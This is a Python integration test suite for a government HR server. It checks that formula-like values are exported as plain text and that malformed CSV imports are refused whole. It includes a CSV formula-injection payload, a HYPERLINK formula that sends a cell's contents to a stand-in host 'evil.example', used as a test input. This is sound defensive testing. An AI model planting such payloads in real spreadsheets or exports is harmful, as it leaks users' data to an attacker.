"""What a device or an admin sends is data, never a command, and never a 500: against the real
server process on 127.0.0.1.

Exports: a log description or an imported name that looks like a spreadsheet formula is a
string cell in the XLSX (checked in the sheet's XML: no ``<f>``, no hyperlink) and starts with
``'`` in the CSV, while numbers stay numbers. Imports: every malformed CSV (an overlong field, bad
bytes, NUL, too many rows, a row with thousands of cells ...) is a 400 with the ErrorBody in
Bahasa Indonesia naming the line or column, and nothing is stored; what Excel legitimately writes
(a BOM, twice; CR-only line ends) imports.
"""

from __future__ import annotations

import csv
import io
import time
import xml.etree.ElementTree as ET
import zipfile
from datetime import date
from typing import Any

import httpx
import msgspec

from shared_models import make_nip
from sync import PushBatch, PushResult
from tests.fixtures.server import LiveServer
from tests.integration.helpers import MSGPACK, new_log
from tests.unit.server import dataset as ds

PERIOD = "2026-T4"  # the logs of the dataset are dated 2026-11-20
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"Lihat")'
EMPLOYEES = "nip,nama,jenis_pegawai,golongan,jabatan,jenis_jabatan,kode_unit,nip_atasan"
UNITS = "kode,nama,jenis,kode_induk"
NEW = make_nip(date(1994, 6, 2), 2020, 3, 1, 12)
_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _login(http: httpx.Client, nip: str) -> dict[str, str]:
    answer = http.post("/api/v1/auth/login", json={"nip": nip, "password": ds.PASSWORD})
    assert answer.status_code == 200, answer.text
    body: dict[str, str] = answer.json()
    return {"authorization": f"Bearer {body['token']}", "device_id": body["device_id"]}


def _auth(session: dict[str, str]) -> dict[str, str]:
    return {"authorization": session["authorization"]}


def _employee(nip: str, name: str = "Perawat Baru", jabatan: str = "Perawat Ahli") -> str:
    return f"{nip},{name},pns,III/a,{jabatan},fungsional,U_PKM,{ds.KAPUS}"


def _import(
    http: httpx.Client, who: dict[str, str], kind: str, body: bytes, **params: Any
) -> httpx.Response:
    return http.post(
        f"/api/v1/admin/import/{kind}",
        content=body,
        params=params,
        headers={**_auth(who), "content-type": "text/csv"},
    )


def _export(http: httpx.Client, who: dict[str, str], dataset: str, fmt: str) -> bytes:
    answer = http.get(
        f"/api/v1/reports/export/{dataset}",
        params={"period": PERIOD, "format": fmt},
        headers=_auth(who),
    )
    assert answer.status_code == 200, answer.text
    return answer.content


def _csv_rows(content: bytes) -> list[list[str]]:
    """The data rows (the header left out)."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:]


def _numbers(content: bytes, text: str) -> list[Any]:
    """The cells of the line holding ``text`` as a spreadsheet reads them: text is quoted, an
    unquoted cell is a number (a float here)."""
    (line,) = [x for x in content.decode("utf-8-sig").splitlines() if text in x]
    return next(csv.reader([line], quoting=csv.QUOTE_NONNUMERIC))


def _xlsx_cells(content: bytes) -> dict[str, tuple[str, Any, bool]]:
    """Every cell of the first sheet: reference -> (type, value, has a formula), from the XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            strings = ET.fromstring(book.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{_NS['m']}}}t")) for si in strings]
        assert not [n for n in names if "externalLink" in n or "hyperlink" in n.lower()]
    assert sheet.find(".//m:hyperlinks", _NS) is None
    cells: dict[str, tuple[str, Any, bool]] = {}
    for c in sheet.iter(f"{{{_NS['m']}}}c"):
        kind = c.get("t", "n")
        formula = c.find("m:f", _NS) is not None
        value: Any = None
        if kind == "inlineStr":
            value = "".join(t.text or "" for t in c.iter(f"{{{_NS['m']}}}t"))
        elif (v := c.find("m:v", _NS)) is not None:
            value = shared[int(v.text or 0)] if kind == "s" else v.text
        cells[str(c.get("r"))] = (kind, value, formula)
    return cells


def _text_cell(cells: dict[str, tuple[str, Any, bool]], text: str) -> str:
    """The reference of the cell holding ``text``, checked to be a plain string cell."""
    found = [ref for ref, (_, value, _) in cells.items() if value == text]
    assert found, f"{text!r} not in the workbook"
    for ref in found:
        kind, _, formula = cells[ref]
        assert kind in ("inlineStr", "s"), (ref, kind)  # "str" would be a formula's result
        assert not formula, ref
    return found[0]


def test_formulas_from_a_device_or_an_import_are_exported_as_text(
    live_server: LiveServer,
) -> None:
    with httpx.Client(base_url=live_server.base_url, timeout=30) as http:
        nurse = _login(http, ds.NURSE)
        log = new_log(
            nurse["device_id"],
            ds.NURSE,
            "0190c000-0000-7000-8000-0000000000f1",
            now_ms=int(time.time() * 1000),
            description=HYPERLINK,
            place="@SUM(A1:A9)",
        )
        batch = PushBatch(device_id=nurse["device_id"], batch_seq=1, changes=[log])
        pushed = http.post(
            "/api/v1/sync/push",
            content=msgspec.msgpack.encode(batch),
            headers={**_auth(nurse), **MSGPACK},
        )
        assert msgspec.msgpack.decode(pushed.content, type=PushResult).results[0].outcome == (
            "applied"
        )
        bkpp = _login(http, ds.BKPP)
        imported = _import(
            http, bkpp, "employees", f"{EMPLOYEES}\n{_employee(NEW, '=1+2', '-2+3')}\n".encode()
        )
        assert imported.status_code == 200, imported.text

        content = _export(http, bkpp, "progress-logs", "csv")
        (row,) = [r for r in _csv_rows(content) if r[2] == ds.NURSE and "evil" in r[6]]
        assert row[6] == "'" + HYPERLINK
        assert row[9] == "'@SUM(A1:A9)"
        numbers = _numbers(content, "evil.example")
        assert (numbers[7], numbers[10]) == (2.0, 0.0)  # Realisasi, Jumlah Bukti: still numbers
        content = _export(http, bkpp, "completion", "csv")
        (person,) = [r for r in _csv_rows(content) if r[2] == NEW]
        assert (person[3], person[4]) == ("'=1+2", "'-2+3")
        assert _numbers(content, NEW)[6] == 0.0  # Catatan Kemajuan: a number

        cells = _xlsx_cells(_export(http, bkpp, "progress-logs", "xlsx"))
        assert not [ref for ref, (_, _, formula) in cells.items() if formula]
        ref = _text_cell(cells, HYPERLINK)
        line = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
        _text_cell(cells, "@SUM(A1:A9)")
        assert cells[f"H{line}"][:2] == ("n", "2")  # Realisasi: a number cell
        cells = _xlsx_cells(_export(http, bkpp, "completion", "xlsx"))
        assert not [ref for ref, (_, _, formula) in cells.items() if formula]
        _text_cell(cells, "=1+2")
        _text_cell(cells, "-2+3")
        _text_cell(cells, NEW)  # a NIP stays text, digits and all


def _state(http: httpx.Client, bkpp: dict[str, str]) -> Any:
    """What HR sees of people and units: every employee of the city (the completion export)
    and the units of Dinas Kesehatan and of the city (dashboards); plus the import entries of
    the audit log."""
    people = sorted(map(tuple, _csv_rows(_export(http, bkpp, "completion", "csv"))))
    units = []
    for params in ({}, {"opd_id": ds.DINKES}):
        board = http.get("/api/v1/reports/dashboard", params=params, headers=_auth(bkpp))
        assert board.status_code == 200, board.text
        units.append(sorted((r["id"], r["name"]) for r in board.json()["rows"]))
    audit = http.get(
        "/api/v1/reports/audit", params={"nip": ds.BKPP, "limit": 100}, headers=_auth(bkpp)
    )
    assert audit.status_code == 200, audit.text
    imports = [e for e in audit.json()["entries"] if e["action"].endswith("_imported")]
    return people, units, imports


def _refused(answer: httpx.Response, *words: str, field: str | None = None) -> dict[str, Any]:
    assert answer.status_code == 400, (answer.status_code, answer.text[:300])
    body: dict[str, Any] = answer.json()
    assert body["code"] == "bad_request"
    assert len(answer.content) < 4096, "the answer does not echo the file back"
    for word in words:
        assert word in body["message"], (word, body["message"])
    if field is not None:
        assert body["field"] == field, body
    return body


def test_malformed_files_are_refused_whole_and_store_nothing(live_server: LiveServer) -> None:
    row = _employee(NEW)
    nul, bell_header = row.replace("Baru", "Ba\x00ru"), EMPLOYEES.replace("nama", "na\x01ma")
    cases: list[tuple[str, bytes, tuple[str, ...], str]] = [
        (  # a field over the CSV reader's 128 KiB: was a 500 (_csv.Error)
            "employees",
            f'{EMPLOYEES}\n{NEW},"{"x" * 140_000}",pns\n'.encode(),
            ("Baris 2", "tanda kutip"),
            "baris 2",
        ),
        (
            "units",
            f"{UNITS}\nPKM-Y,{'y' * 140_000},puskesmas,U_DINKES\n".encode(),
            ("Baris 2",),
            "baris 2",
        ),
        (  # a quote never closed swallows the rest of the file
            "employees",
            f'{EMPLOYEES}\n{NEW},"Perawat\n'.encode() + (row + "\n").encode() * 2_000,
            ("Baris 2", "tanda kutip"),
            "baris 2",
        ),
        (
            "employees",
            f"{EMPLOYEES}\n{row}\n".encode() + b"\xff\xfe\n",
            ("UTF-8", "baris 3"),
            "baris 3",
        ),
        ("employees", f"{EMPLOYEES}\n{nul}\n".encode(), ("NUL", "baris 2"), "baris 2"),
        ("employees", f"{EMPLOYEES}\n{row}\n".encode("utf-16"), ("UTF-16",), "$"),
        ("employees", b"PK\x03\x04" + bytes(200), ("Excel", "CSV UTF-8"), "$"),
        (  # 50,001 data rows: refused before any row is checked
            "employees",
            f"{EMPLOYEES}\n".encode() + b"x\n" * 50_001,
            ("50.000 baris", "baris 50002"),
            "baris 50002",
        ),
        (  # twenty thousand unknown columns: named five, counted the rest
            "employees",
            f"{EMPLOYEES},{','.join(f'kolom{n}' for n in range(20_000))}\n{row}\n".encode(),
            ("kolom0", "dan 19995 kolom lainnya"),
            "kolom0",
        ),
        (
            "employees",
            f"nip,{EMPLOYEES}\n{NEW},{row}\n".encode(),
            ("lebih dari sekali", "nip"),
            "nip",
        ),
        ("employees", f"{bell_header}\n{row}\n".encode(), ("kendali",), "baris 1"),
    ]
    with httpx.Client(base_url=live_server.base_url, timeout=30) as http:
        bkpp = _login(http, ds.BKPP)
        before = _state(http, bkpp)
        for kind, body, words, field in cases:
            for partial in (False, True):  # not even partly
                answer = _import(http, bkpp, kind, body, partial=partial)
                _refused(answer, *words, field=field)
        assert _state(http, bkpp) == before
        assert before[2] == []


def test_bad_rows_are_named_and_nothing_is_stored(live_server: LiveServer) -> None:
    good = _employee(NEW)
    other = make_nip(date(1995, 7, 3), 2021, 3, 2, 13)
    bad_rows = {
        3: (_employee(other) + "," + ",".join(["isian"] * 5_000), None, "tidak punya judul"),
        4: (_employee(other, name="Perawat\x07Baru"), "nama", "karakter kendali U+0007"),
        5: (_employee(other, name="P" * 2_000), "nama", "isian terlalu panjang (2.000 karakter"),
        6: (_employee(other, name="P" * 300), "nama", "paling banyak 200 karakter"),
        7: (_employee(other, name='"Perawat\nBaru"'), "nama", "baris baru (LF)"),  # lines 7-8
    }
    body = "\n".join([EMPLOYEES, good, *(r for r, _, _ in bad_rows.values())]) + "\n"
    with httpx.Client(base_url=live_server.base_url, timeout=30) as http:
        bkpp = _login(http, ds.BKPP)
        before = _state(http, bkpp)
        answer = _import(http, bkpp, "employees", body.encode())
        error = _refused(answer, "5 baris bermasalah", "tidak ada data yang diimpor")
        assert error["field"] == "baris 3"
        got = [(e["line"], e["column"]) for e in error["errors"]]
        assert got == [(line, column) for line, (_, column, _) in bad_rows.items()]
        for e in error["errors"]:
            assert bad_rows[e["line"]][2] in e["message"], e
        assert _state(http, bkpp) == before

        partial = _import(http, bkpp, "employees", body.encode(), partial="true")
        assert partial.status_code == 200, partial.text
        assert (partial.json()["imported"], len(partial.json()["errors"])) == (1, 5)
        assert len(_state(http, bkpp)[2]) == 1  # the audit shows an import when there is one
        people = _csv_rows(_export(http, bkpp, "completion", "csv"))
        assert [r[3] for r in people if r[2] in (NEW, other)] == ["Perawat Baru"]


def test_what_excel_writes_imports(live_server: LiveServer) -> None:
    # CR-only line ends (old Mac Excel), a semicolon file whose names hold many commas, and
    # the BOM twice (a file re-saved): the delimiter is read from the first line alone
    name = "Puskesmas Satu, Dua, Tiga, Empat, Lima, Enam, Tujuh, Delapan, Sembilan"
    units = f'{UNITS.replace(",", ";")}\rPKM-Y;"{name}";puskesmas;U_DINKES\r'
    people = f"{EMPLOYEES}\r\n{_employee(NEW)}\r\n"
    with httpx.Client(base_url=live_server.base_url, timeout=30) as http:
        bkpp = _login(http, ds.BKPP)
        answer = _import(http, bkpp, "units", ("\ufeff\ufeff" + units).encode())
        assert answer.status_code == 200, answer.text
        assert answer.json()["created"] == 1
        board = http.get(
            "/api/v1/reports/dashboard", params={"opd_id": ds.DINKES}, headers=_auth(bkpp)
        )
        assert name in {r["name"] for r in board.json()["rows"]}
        answer = _import(http, bkpp, "employees", ("\ufeff" + people).encode())
        assert answer.status_code == 200, answer.text
        rows = _csv_rows(_export(http, bkpp, "completion", "csv"))
        assert [r[3] for r in rows if r[2] == NEW] == ["Perawat Baru"]
